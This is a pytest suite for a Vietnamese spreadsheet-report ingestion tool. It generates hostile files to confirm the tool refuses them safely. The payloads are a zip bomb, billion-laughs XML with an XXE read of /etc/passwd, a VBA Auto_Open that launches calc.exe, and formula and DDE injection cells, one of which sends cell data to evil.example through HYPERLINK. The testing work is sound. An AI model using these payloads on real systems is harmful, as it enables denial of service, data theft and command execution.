"""Hostile and broken input (issue 6): nothing crashes, nothing is lost, nothing runs.

Every hostile file is generated here, small and fast (the 300 MB decompression bomb is written as a
stream and weighs ~1.4 MB). Each case is checked on its own (the finding and its reason), then all
of them at once through ``cchc ingest`` in a subprocess: exit 0, one finding per hostile file, the
good file's values still read, peak memory under 2 GiB, and no output cell that a spreadsheet
would run as a formula. Then a run killed mid-way, the period lock, and property-based fuzzing of
the value parser and of unit/indicator matching.
"""

from __future__ import annotations

import csv
import os
import random
import re
import shutil
import signal
import struct
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cchc_analysis import pipeline
from cchc_analysis.catalogue import load_catalogue, load_units
from cchc_analysis.ingest import FileResult, ingest, make_context, read_file, read_files, recognise_unit
from cchc_analysis.matching import IndicatorMatcher, UnitMatcher, normalise_code
from cchc_analysis.parse import Parsed, parse_value
from cchc_analysis.periods import Period, PeriodError, period_in_text
from cchc_analysis.safety import cell_text, html_text, safe_frame
from cchc_analysis.text import fold
from cchc_analysis.workbook import Limits, Workbook, WorkbookError

from conftest import ROOT, ROWS

PERIOD = "2021-H1"
HEADER = ["STT", "Chỉ tiêu thống kê", "Đơn vị tính", "Số liệu", "Ghi chú"]
GOOD = "Tu phap.xlsx"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]+)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?%?")
ENV = {**os.environ, "PYTHONIOENCODING": "utf-8", "PYTHONPATH": str(ROOT)}


# ------------------------------------------------------------------------------------------------
# builders


def table(unit: str = "Phòng Tư pháp", v21=7, v22=4, period: str = "6 tháng đầu năm 2021") -> list[list]:
    """A small Phụ lục II: title rows (1-2), header (3), 2.1 on row 4, 2.2 on row 5."""
    return [[f"TÊN CƠ QUAN: {unit}"], [f"Báo cáo kết quả cải cách hành chính {period}"], HEADER,
            ["2.1.", ROWS["2.1"]["name"], "Văn bản", v21, None],
            ["2.2.", ROWS["2.2"]["name"], "Văn bản", v22, None]]


def write_book(path: Path, rows: list[list], *, title: str = "Phụ lục II", formulas: set[str] = frozenset()) -> Path:
    """Write ``rows`` with openpyxl; text starting with '=' is kept as *text* unless its cell
    reference is in ``formulas`` (openpyxl would otherwise store it as a formula)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("=") and cell.coordinate not in formulas:
                cell.data_type = "s"
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def write_zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def sheet_part(parts: dict[str, bytes]) -> str:
    return next(n for n in parts if n.startswith("xl/worksheets/") and n.endswith(".xml"))


def shared_strings(parts: dict[str, bytes]) -> dict[str, bytes]:
    """The package with the sheet's inline strings moved to xl/sharedStrings.xml, as Excel
    saves them (openpyxl writes inline strings)."""
    part = sheet_part(parts)
    texts: list[bytes] = []

    def share(match):
        texts.append(match.group(2))
        return b'<c r="' + match.group(1) + b'" t="s"><v>' + str(len(texts) - 1).encode() + b"</v></c>"
    parts = dict(parts)
    parts[part] = re.sub(rb'<c r="([A-Z]+\d+)" t="inlineStr"><is><t>(.*?)</t></is></c>', share, parts[part])
    parts["xl/sharedStrings.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (len(texts), len(texts))
        + b"".join(b"<si><t>" + t + b"</t></si>" for t in texts) + b"</sst>")
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return parts


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
)


def with_doctype(xml: bytes) -> bytes:
    declaration, _, rest = xml.partition(b"?>")
    return declaration + b"?>" + LAUGHS.encode() + rest


def lie_about_size(path: Path, member: str, declared: int) -> None:
    """Patch the uncompressed size of ``member`` in its local header and its central directory
    entry (a zip whose headers lie: says small, holds large)."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        offset = archive.getinfo(member).header_offset
    struct.pack_into("<I", data, offset + 22, declared)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, at + 28)
        if bytes(data[at + 46 : at + 46 + name_len]) == member.encode():
            struct.pack_into("<I", data, at + 24, declared)
        at = data.find(b"PK\x01\x02", at + 46 + name_len + extra_len + comment_len)
    path.write_bytes(bytes(data))


# -- minimal OLE compound files (what .xls and encrypted Office files are) --------------------

def _record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def biff(rows: list[list], dims: tuple[int, int, int, int] | None = None) -> bytes:
    """A BIFF8 workbook stream with one sheet: text as LABEL, numbers as NUMBER records."""
    def bof(kind):
        return _record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))
    name = b"Sheet1"

    def globals_(position):
        return (bof(0x0005) + _record(0x0042, struct.pack("<H", 1200))
                + _record(0x0085, struct.pack("<IBB", position, 0, 0) + bytes([len(name), 0]) + name) + _record(0x000A))
    stream = bof(0x0010)
    if dims:
        stream += _record(0x0200, struct.pack("<IIHHH", *dims, 0))
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, str):
                stream += _record(0x0204, struct.pack("<HHHHB", r, c, 0, len(value), 1) + value.encode("utf-16-le"))
            else:
                stream += _record(0x0203, struct.pack("<HHHd", r, c, 0, float(value)))
    stream += _record(0x000A)
    return globals_(len(globals_(0))) + stream


def ole(stream: bytes, name: str = "Workbook", declared: int | None = None) -> bytes:
    """A compound file (512-byte sectors: FAT, directory, then ``stream``)."""
    end, free, fat_sector, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    data = stream + b"\0" * ((-len(stream)) % 512)
    data += b"\0" * max(0, 4096 - len(data))
    sectors = len(data) // 512
    fat = [fat_sector, end] + [3 + i for i in range(sectors - 1)] + [end]
    fat += [free] * (128 - len(fat))

    def entry(label, kind, child, start, size):
        raw = (label + "\0").encode("utf-16-le")
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1) + struct.pack("<III", none, none, child)
                + b"\0" * 36 + struct.pack("<III", start, size, 0))
    directory = entry("Root Entry", 5, 1, end, 0) + entry(name, 2, none, 2, len(data) if declared is None else declared)
    directory += b"\0" * (512 - len(directory))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0) + struct.pack("<108I", *[free] * 108)
    return header + struct.pack("<128I", *fat) + directory + data


def ods(path: Path, rows: list[list], tail: str = "") -> Path:
    """An OpenDocument spreadsheet; ``tail`` is raw XML appended after the rows."""
    def cell(value):
        if value is None:
            return "<table:table-cell/>"
        if isinstance(value, str):
            text = value.replace("&", "&amp;").replace("<", "&lt;")
            return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
        return f'<table:table-cell office:value-type="float" office:value="{value}"><text:p>{value}</text:p></table:table-cell>'
    body = "".join("<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>" for row in rows)
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               f'<office:spreadsheet><table:table table:name="Phụ lục II">{body}{tail}</table:table>'
               "</office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", manifest)
        archive.writestr("content.xml", content)
    return path


def big_sheet(path: Path, rows: list[list], junk_rows: int, far_cell: str | None = None) -> Path:
    """An xlsx written as a stream: the table, then ``junk_rows`` rows of junk (numbers and
    text), and optionally one more cell far away (``far_cell``, e.g. 'XFD1048576')."""
    def cell(ref, value):
        if isinstance(value, str):
            text = value.replace("&", "&amp;").replace("<", "&lt;")
            return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'
        return f'<c r="{ref}"><v>{value}</v></c>'
    base = members(write_book(path, [["x"]]))
    part = sheet_part(base)
    head = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in base.items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w") as sink:
            sink.write(head.encode())
            for r, row in enumerate(rows, start=1):
                cells = "".join(cell(f"{'ABCDE'[c]}{r}", v) for c, v in enumerate(row) if v is not None)
                sink.write(f'<row r="{r}">{cells}</row>'.encode())
            start = len(rows) + 1
            for block in range(start, start + junk_rows, 10_000):
                sink.write("".join(
                    f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="inlineStr"><is><t>rác {r % 97}</t></is></c></row>'
                    for r in range(block, min(block + 10_000, start + junk_rows))).encode())
            if far_cell:
                row = int(re.sub(r"\D", "", far_cell))
                sink.write(f'<row r="{row}"><c r="{far_cell}"><v>1</v></c></row>'.encode())
            sink.write(b"</sheetData></worksheet>")
    return path


# -- every hostile file: (file name, builder, check expected, words of the reason) ---------------

def _random(path):
    path.write_bytes(random.Random(6).randbytes(64 * 1024))


def _html(path):
    path.write_text("\ufeff<html><head><meta charset='utf-8'></head><body><table><tr><td>STT</td><td>Chỉ tiêu</td>"
                    "<td>Số liệu</td></tr><tr><td>2.1.</td><td>Số VBQPPL</td><td>7</td></tr></table></body></html>",
                    encoding="utf-8")


def _csv(path):
    path.write_text("STT,Chỉ tiêu,Đơn vị tính,Số liệu\n2.1.,Số VBQPPL đã ban hành,Văn bản,7\n", encoding="utf-8")


def _empty(path):
    path.write_bytes(b"")


def _plain_zip(path):
    write_zip(path, {"readme.txt": b"not a workbook", "data/bang.csv": b"a,b\n1,2\n"})


def _truncated(path):
    good = write_book(path.with_suffix(".tmp"), table())
    data = good.read_bytes()
    good.unlink()
    path.write_bytes(data[: len(data) // 2])


def _padded_sheet(path, megabytes: int, *, force_zip64: bool = False) -> str:
    """The table with ``megabytes`` MB of spaces inside its sheet's XML, written as a stream
    (the file stays small); returns the sheet's part name."""
    base = members(write_book(path, table()))
    part = sheet_part(base)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in base.items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w", force_zip64=force_zip64) as sink:
            sink.write(base[part][:-len(b"</worksheet>")])
            block = b" " * (1 << 20)
            for _ in range(megabytes):
                sink.write(block)
            sink.write(b"</worksheet>")
    return part


def _bomb(path):
    """300 MB of sheet XML (repeated bytes) in a ~1.4 MB file."""
    _padded_sheet(path, 300, force_zip64=True)


def _liar(path):
    """The headers say the sheet is 2 KB; the data inflates to 40 MB."""
    lie_about_size(path, _padded_sheet(path, 40), 2048)


def _laughs_sheet(path):
    parts = members(write_book(path, table()))
    part = sheet_part(parts)
    parts[part] = with_doctype(parts[part]).replace(b"<v>7</v>", b"<v>&lol9;</v>")
    write_zip(path, parts)


def _laughs_strings(path):
    parts = shared_strings(members(write_book(path, table())))
    parts["xl/sharedStrings.xml"] = with_doctype(parts["xl/sharedStrings.xml"]).replace(b"<t>", b"<t>&lol9;&xxe;", 1)
    write_zip(path, parts)


def _laughs_utf16(path):
    parts = members(write_book(path, table()))
    part = sheet_part(parts)
    xml = with_doctype(parts[part]).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    parts[part] = xml.encode("utf-16")
    write_zip(path, parts)


def _encrypted_minimal(path):
    """What ``sniff`` looks for: the OLE magic and the UTF-16LE name of the EncryptionInfo stream."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1016 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 64)


def _encrypted_ole(path):
    path.write_bytes(ole(b"\x04\x00\x04\x00" + b"\0" * 200, name="EncryptionInfo"))


def _xls_password(path):
    """An old-format workbook encrypted with a password (a FILEPASS record after the first BOF)."""
    stream = biff(table())
    first = 4 + struct.unpack_from("<H", stream, 2)[0]
    path.write_bytes(ole(stream[:first] + _record(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\0" * 48) + stream[first:]))


def _xls_dimensions(path):
    """A 5 KB .xls whose DIMENSIONS record claims 4 billion rows: the reader would ask for
    petabytes and abort the whole process."""
    path.write_bytes(ole(biff(table(), dims=(0, 0xFFFFFFF0, 0, 0xFFF0))))


def _xls_panic(path):
    """A broken compound file (stream size pointing into a mini stream that is not there): the
    reader library panics."""
    path.write_bytes(ole(biff(table()), declared=100))


def _far_cell(path):
    """The table, then one cell at XFD1048576: a reader would allocate 17 billion cells."""
    big_sheet(path, table("Văn phòng HĐND và UBND huyện", 11, 12), 0, far_cell="XFD1048576")


def _junk_rows(path):
    big_sheet(path, table("Phòng Tài chính - Kế hoạch", 21, 22), 200_000)


def _junk_openpyxl(path):
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("Phụ lục II")
    for row in table("Phòng Kinh tế và Hạ tầng", 31, 32):
        sheet.append(row)
    for r in range(12_000):
        sheet.append([r, f"rác {r % 97}"])
    book.save(path)


def _repeated_ods(path):
    tail = ('<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16000" '
            'office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>')
    ods(path, table("Phòng Văn hóa và Thông tin", 41, 42), tail)


def _laughs_ods(path):
    ods(path, table("Phòng Văn hóa và Thông tin"))
    parts = members(path)
    parts["content.xml"] = with_doctype(parts["content.xml"])
    write_zip(path, parts)


def _wrong_period(path):
    write_book(path, table("Phòng Nội vụ", 99, 98, period="6 tháng đầu năm 2020"))


def _formulas(path):
    """2.1 is '=3+4' with the cached value 7 (as Excel saves it); 2.2 is '=SUM(1,3)' with none
    (as a program that never calculates saves it)."""
    rows = table("Phòng Nội vụ", "=3+4", "=SUM(1,3)")
    write_book(path, rows, formulas={"D4", "D5"})
    parts = members(path)
    part = sheet_part(parts)
    xml = parts[part].decode()
    xml, count = re.subn(r"(<c r=\"D4\"[^>]*>\s*<f>3\+4</f>)\s*(<v\s*/>|<v>\s*</v>)?", r"\1<v>7</v>", xml)
    assert count == 1 and "<v>7</v>" in xml
    parts[part] = xml.encode()
    write_zip(path, parts)


def _macro(path):
    """An .xlsm with a VBA project (and an auto-open name): read as data, nothing runs."""
    parts = members(write_book(path.with_suffix(".xlsx"), table("Phòng Kinh tế và Hạ tầng", 51, 52)))
    path.with_suffix(".xlsx").unlink()
    parts["xl/vbaProject.bin"] = ole(b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n", name="VBA")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                             b'Target="vbaProject.bin"/></Relationships>')
    write_zip(path, parts)


def _injection(path):
    """Department text that a spreadsheet would run, everywhere it can go."""
    rows = [["TÊN CƠ QUAN: =HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")"],
            ["Báo cáo kết quả cải cách hành chính 6 tháng đầu năm 2021"], HEADER,
            ["2.1.", ROWS["2.1"]["name"], "Văn bản", "=1+1", "=HYPERLINK(\"http://evil.example\")"],
            ["2.2.", ROWS["2.2"]["name"], "Văn bản", "@SUM(A1)", None],
            ["2.3.", ROWS["2.3"]["name"], "Văn bản", "+1+1", "-2+3"],
            ["9.8.", "Dòng thêm", "Văn bản", "7 CARRIAGE=HYPERLINK(\"http://evil.example\")", None],
            ["9.9.", "=cmd|' /C calc'!A0", "Văn bản", "-2+3", None]]
    write_book(path, rows, title="=1+2")
    parts = members(path)
    part = sheet_part(parts)
    parts[part] = parts[part].replace(b" CARRIAGE", b"&#13;")  # a real carriage return in the cell text
    write_zip(path, parts)


HOSTILE = [
    ("ngau nhien.xlsx", _random, "unreadable-file", "không phải là bảng tính"),
    ("bang html.xls", _html, "unreadable-file", "HTML"),
    ("so lieu.xlsx", _csv, "unreadable-file", "CSV"),
    ("rong.xlsx", _empty, "unreadable-file", "rỗng"),
    ("nen.xlsx", _plain_zip, "unreadable-file", "không phải bảng tính"),
    ("cat cut.xlsx", _truncated, "unreadable-file", "cắt cụt"),
    ("bom.xlsx", _bomb, "unreadable-file", "zip bomb"),
    ("noi doi.xlsx", _liar, "unreadable-file", "khác kích thước"),
    ("cuoi sheet.xlsx", _laughs_sheet, "unreadable-file", "DOCTYPE/ENTITY"),
    ("cuoi chuoi.xlsx", _laughs_strings, "unreadable-file", "DOCTYPE/ENTITY"),
    ("cuoi.ods", _laughs_ods, "unreadable-file", "DOCTYPE/ENTITY"),
    ("cuoi utf16.xlsx", _laughs_utf16, "unreadable-file", "UTF-16"),
    ("khoa.xlsx", _encrypted_minimal, "unreadable-file", "gỡ mật khẩu"),
    ("khoa ole.xls", _encrypted_ole, "unreadable-file", "gỡ mật khẩu"),
    ("khoa cu.xls", _xls_password, "unreadable-file", "gỡ mật khẩu"),
    ("kich thuoc.xls", _xls_dimensions, "unreadable-file", "bộ nhớ"),
    ("vo.xls", _xls_panic, "unreadable-file", "không"),
    ("o xa.xlsx", _far_cell, "truncated-sheet", "hơn 5000 dòng"),
    ("rac.xlsx", _junk_rows, "truncated-sheet", "200005 dòng"),
    ("rac openpyxl.xlsx", _junk_openpyxl, "truncated-sheet", "12005 dòng"),
    ("lap.ods", _repeated_ods, "truncated-sheet", "1048005 dòng"),
    ("nam 2020.xlsx", _wrong_period, "period-mismatch", "năm 2020"),
    ("cong thuc.xlsx", _formulas, "formula-no-value", "công thức"),
    ("=cmd.xlsx", _injection, "unknown-unit", "HYPERLINK"),
]
#: hostile files whose table is still read: (file, {indicator: value})
KEPT = {"o xa.xlsx": {"2.1": 11, "2.2": 12}, "rac.xlsx": {"2.1": 21, "2.2": 22},
        "rac openpyxl.xlsx": {"2.1": 31, "2.2": 32}, "lap.ods": {"2.1": 41, "2.2": 42}}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A period folder holding every hostile file, the macro workbook and one good file."""
    folder = tmp_path_factory.mktemp("ws") / "data" / "raw" / PERIOD
    folder.mkdir(parents=True)
    for name, build, _check, _words in HOSTILE:
        build(folder / name)
    _macro(folder / "vi mo.xlsm")
    write_book(folder / GOOD, table())
    return folder


@pytest.fixture(scope="module")
def ctx():
    return make_context(PERIOD, load_catalogue(2021), load_units())


def read_one(path: Path, name: str, ctx) -> FileResult:
    """One file read as a folder is read: in a worker process with its memory cap and time limit
    (a hostile file may abort the process that parses it: never this test process)."""
    with read_files([(path, name)], ctx) as results:
        record, findings, columns = next(iter(results))
    cells = [dict(zip(columns, values)) for values in zip(*columns.values())]
    return FileResult(cells=cells, findings=findings, record=record)


# ------------------------------------------------------------------------------------------------
# each case on its own


@pytest.mark.parametrize("name,check,words", [(n, c, w) for n, _b, c, w in HOSTILE])
def test_each_hostile_file_gives_its_finding(hostile, ctx, name, check, words):
    result = read_one(hostile / name, name, ctx)  # never raises, never takes the run down
    found = [f for f in result.findings if f["check"] == check]
    assert found, result.findings
    assert any(words in f["message"] for f in found), [f["message"] for f in found]
    assert all(f["source_file"] == name for f in result.findings)


def test_refused_files_say_what_to_do(hostile, ctx):
    for name, _build, check, _words in HOSTILE:
        if check != "unreadable-file":
            continue
        message = read_one(hostile / name, name, ctx).findings[0]["message"]
        assert message.startswith(f"Tệp '{name}'")
        assert "đề nghị" in message.lower() or "không đọc" in message, message


def _refusal_and_peak(path) -> tuple[str, int]:
    """The reason a workbook is refused with, and the peak Python memory of refusing it."""
    import tracemalloc

    tracemalloc.start()
    with pytest.raises(WorkbookError) as refused:
        Workbook(path).close()
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return refused.value.reason, peak


def test_bomb_is_refused_before_parsing_with_little_memory(hostile):
    """The 300 MB sheet is refused from the sizes alone: no byte of it is inflated."""
    reason, peak = _refusal_and_peak(hostile / "bom.xlsx")
    assert "300 MB" in reason and "zip bomb" in reason
    assert peak < 20 * 1024 * 1024


def test_lying_sizes_are_caught_while_inflating(hostile):
    """Headers that claim 2 KB: inflating stops at 2 KB (zipfile reads no further than the declared
    size, then the CRC fails), not after 40 MB."""
    reason, peak = _refusal_and_peak(hostile / "noi doi.xlsx")
    assert "2048 byte" in reason
    assert peak < 20 * 1024 * 1024


def test_compression_ratio_and_limits_come_from_configuration(tmp_path):
    path = big_sheet(tmp_path / "rac.xlsx", table(), 30_000)
    small = Limits(max_uncompressed_mb=1)
    with pytest.raises(WorkbookError, match="giới hạn 1 MB|vượt 1 MB"):
        Workbook(path, small)
    assert Limits.from_settings({"limits": {"max_rows": 10, "unknown": 1}}).max_rows == 10
    book = Workbook(path, Limits(max_rows=10))
    try:
        sheet = book.sheet(book.sheet_names[0])
        assert len(sheet.rows) == 10 and sheet.truncated and sheet.total_rows == 30_005
    finally:
        book.close()


def test_huge_sheet_keeps_the_table_and_says_it_stopped(hostile, ctx):
    for name, expected in KEPT.items():
        result = read_one(hostile / name, name, ctx)
        values = {c["indicator"]: c["value"] for c in result.cells if c["status"] == "ok"}
        assert values == expected, (name, result.findings)
        truncated = [f["message"] for f in result.findings if f["check"] == "truncated-sheet"]
        assert any("vượt giới hạn 5000" in m for m in truncated), truncated


def test_values_beyond_the_column_limit_are_named(tmp_path, ctx):
    rows = table()
    rows[3] += [None] * 70 + [123]  # a value in column 76 of row 4
    path = write_book(tmp_path / "rong.xlsx", rows)
    result = read_file(path, "rong.xlsx", ctx)
    assert {c["indicator"]: c["value"] for c in result.cells} == {"2.1": 7.0, "2.2": 4.0}
    assert any(f["check"] == "truncated-sheet" and "cột" in f["message"] for f in result.findings), result.findings


def test_junk_rows_do_not_cost_a_match_each(tmp_path, ctx, monkeypatch):
    """Within every limit, 5 000 junk rows with codes, names and values on each of 50 sheets cost
    about 15 minutes of matching; a sheet should stop after a long run of rows matching nothing."""
    rnd = random.Random(3)
    words = ["số", "văn bản", "thủ tục", "hành chính", "cơ quan", "tỷ lệ", "đơn vị", "kiểm tra", "rà soát"]
    rows = table() + [[f"{rnd.randint(1, 9)}.{rnd.randint(1, 9)}.", " ".join(rnd.choice(words) for _ in range(6)) + f" {i}",
                       "Văn bản", i, None] for i in range(600)]
    path = write_book(tmp_path / "rac.xlsx", rows)
    calls = []
    real = IndicatorMatcher._best_similar if hasattr(IndicatorMatcher, "_best_similar") else None
    if real is None:
        pytest.skip("matcher internals changed")

    def counted(self, *args, **kwargs):
        calls.append(1)
        return real(self, *args, **kwargs)
    monkeypatch.setattr(IndicatorMatcher, "_best_similar", counted)
    fresh = make_context(PERIOD, load_catalogue(2021), load_units())
    result = read_file(path, "rac.xlsx", fresh)
    values = {c["indicator"]: c["value"] for c in result.cells if c["status"] == "ok"}
    assert (values["2.1"], values["2.2"]) == (7.0, 4.0)
    assert len(calls) <= 300
    assert sum(f["check"] == "unknown-indicator" for f in result.findings) <= 21


def test_a_sheet_one_row_over_the_limit_is_truncated(tmp_path):
    """5001 rows with max_rows 5000: the last row is not silently dropped (it is said)."""
    path = big_sheet(tmp_path / "vua.xlsx", table(), 4996)
    book = Workbook(path)
    try:
        sheet = book.sheet(book.sheet_names[0])
        assert sheet.total_rows == 5001 and sheet.truncated and len(sheet.rows) == 5000
    finally:
        book.close()
    path = big_sheet(tmp_path / "du.xlsx", table(), 4995)
    book = Workbook(path)
    try:
        sheet = book.sheet(book.sheet_names[0])
        assert sheet.total_rows == 5000 and not sheet.truncated
    finally:
        book.close()


def test_formula_cached_value_is_read_and_missing_one_is_named(hostile, ctx):
    result = read_file(hostile / "cong thuc.xlsx", "cong thuc.xlsx", ctx)
    values = {c["indicator"]: (c["status"], c["value"]) for c in result.cells}
    assert values["2.1"] == ("ok", 7.0)
    assert values["2.2"][0] == "empty"  # not a silent 0
    missing = [f for f in result.findings if f["check"] == "formula-no-value"]
    assert len(missing) == 1
    assert (missing[0]["indicator"], missing[0]["sheet"], missing[0]["row"]) == ("2.2", "Phụ lục II", 5)
    assert "dòng 5" in missing[0]["message"] and "F9" in missing[0]["message"]


def test_percent_formats_and_formulas_survive_the_streamed_reading(tmp_path, ctx):
    """A sheet read again streamed because of a far cell keeps its number formats and formulas:
    87,5% typed in Excel (0.875 with a percent format) is 87.5; a formula without a value is still
    named."""
    rows = table("Văn phòng HĐND và UBND huyện", 5, "=SUM(1,3)") + [["3.3.3.", ROWS["3.3.3"]["name"], "%", 0.875, None]]
    path = write_book(tmp_path / "xa.xlsx", rows, formulas={"D5"})
    book = openpyxl.load_workbook(path)
    book.active["D6"].number_format = "0.0%"
    book.save(path)
    parts = members(path)
    part = sheet_part(parts)
    parts[part] = parts[part].replace(b"</sheetData>", b'<row r="900000"><c r="XFD900000"><v>1</v></c></row></sheetData>')
    write_zip(path, parts)
    result = read_one(path, "xa.xlsx", ctx)
    values = {c["indicator"]: c["value"] for c in result.cells if c["status"] == "ok"}
    assert values == {"2.1": 5.0, "3.3.3": 87.5}
    checks = sorted(f["check"] for f in result.findings)
    assert checks == ["formula-no-value", "truncated-sheet"], result.findings


def test_macro_workbook_is_read_as_data(hostile, ctx):
    result = read_file(hostile / "vi mo.xlsm", "vi mo.xlsm", ctx)
    assert result.record["status"] == "ok", result.findings
    assert {c["indicator"]: c["value"] for c in result.cells} == {"2.1": 51.0, "2.2": 52.0}


def test_old_xls_and_renamed_files_are_read_by_content(tmp_path, ctx):
    """A real .xls (BIFF8) is read; an .xls saved under an .xlsx name, and an .xlsx under an .xls
    name, are read by what they are."""
    (tmp_path / "cu.xls").write_bytes(ole(biff(table(v21=61, v22=62))))
    (tmp_path / "cu doi ten.xlsx").write_bytes(ole(biff(table(v21=63, v22=64))))
    write_book(tmp_path / "moi doi ten.xls", table(v21=65, v22=66))
    for name, expected in [("cu.xls", 61.0), ("cu doi ten.xlsx", 63.0), ("moi doi ten.xls", 65.0)]:
        result = read_file(tmp_path / name, name, ctx)
        assert result.record["status"] == "ok", result.findings
        assert {c["indicator"]: c["value"] for c in result.cells}["2.1"] == expected


def test_a_file_that_crashes_or_exhausts_the_reader_costs_that_file_only(hostile, tmp_path, ctx):
    """Workbooks are read in memory-capped worker processes: after a file that aborts its worker
    (the DIMENSIONS bomb) or overruns the time allowed, the next file is read as usual."""
    items = [(hostile / "kich thuoc.xls", "kich thuoc.xls"), (hostile / GOOD, GOOD)]
    with read_files(items, ctx) as results:
        crashed, good = results
    assert "bộ nhớ" in crashed[1][0]["message"] and crashed[0]["status"] == "unreadable"
    assert good[0]["status"] == "ok"
    # 65 536 x 256 cells: about 1 GB for the reader; allowed 0.2 s, it is stopped
    (tmp_path / "goc.xls").write_bytes(ole(biff(table() + [[None]] * 65_000 + [[None] * 255 + [1]])))
    slow = make_context(PERIOD, load_catalogue(2021), load_units(),
                        {"limits": {"max_read_seconds": 0.2, "max_reader_mb": 4096}})
    with read_files([(tmp_path / "goc.xls", "goc.xls"), (hostile / GOOD, GOOD)], slow) as results:
        stopped, good = results
    assert "quá 0.2 giây" in stopped[1][0]["message"]
    assert good[0]["status"] == "ok"


